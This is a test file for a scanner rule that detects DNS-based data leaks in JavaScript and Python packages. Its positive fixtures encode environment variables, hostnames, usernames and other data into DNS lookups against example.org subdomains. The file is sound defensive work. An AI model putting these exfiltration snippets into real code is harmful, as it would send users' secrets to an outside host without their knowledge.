import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './dns-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "require(\"dns\").lookup(`${data}.x.example.org`, cb)",
    "const { resolve4 } = require(\"node:dns/promises\"); resolve4(part + \".example.org\")",
    "import dns from \"dns\"; dns.promises.resolveTxt(JSON.stringify(process.env))",
  ]) assert.equal(worst(code), 'high', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import socket\nsocket.gethostbyname(f\"{data}.example.org\")",
    "import socket, os\nsocket.getaddrinfo(str(os.environ), 1)",
  ]) assert.equal(worst(code, 'a.py'), 'high', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "require(\"dns\").lookup(\"example.org\", cb)",
    "require(\"dns\").lookup(host, cb)",
    "const dns = { lookup() {} }; dns.lookup(`${x}.example.org`)",
    "cache.lookup(`${x}.example.org`)",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import socket\nsocket.gethostbyname(\"example.org\")",
    "socket2.gethostbyname(f\"{x}.example.org\")",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: the own name of a computer is looked up to learn its address', () => {
  for (const code of [
    'const os = require("os"); require("dns").lookup(os.hostname(), cb)',
    'import { hostname } from "os"; import dns from "dns/promises"; class Address { async find() { if (!this.host) this.host = hostname(); return dns.lookup(this.host) } }',
  ]) assert.equal(worst(code), 'nothing', code);
  for (const code of [
    'const os = require("os"); require("dns").lookup([os.hostname(), zone].join("."), cb)',
    'const os = require("os"); let name = os.hostname(); name += zone; require("dns").lookup(name)',
    'const os = require("os"); class A { f() { this.n = ""; this.n += os.hostname(); this.n += zone; require("dns").lookup(this.n) } }',
    'const os = require("os"); const o = {}; o.n = ""; o.n += os.hostname(); require("dns").lookup(o.n)',
    'const os = require("os"); require("dns").lookup(encode(os.hostname()))',
    'const os = require("os"); require("dns").lookup(os.userInfo().username)',
  ]) assert.equal(worst(code), 'high', code);
});

test('a resolver of its own looks up names as well', () => {
  for (const code of [
    'const { Resolver } = require("dns"); const r = new Resolver(); parts.forEach((p, i) => r.resolve4(`${i}.${p}.example.org`, () => {}))',
    'import { Resolver } from "node:dns/promises"; await new Resolver().resolveTxt(part + ".example.org")',
    'const dns = require("dns"); const r = new dns.promises.Resolver(); r.resolve(Buffer.from(JSON.stringify(process.env)).toString("hex"))',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of ['const { Resolver } = require("dns"); const r = new Resolver(); r.setServers(["1.1.1.1"]); r.resolve4("example.org", cb); r.resolve4(host, cb)']) assert.equal(worst(code), 'nothing', code);
});
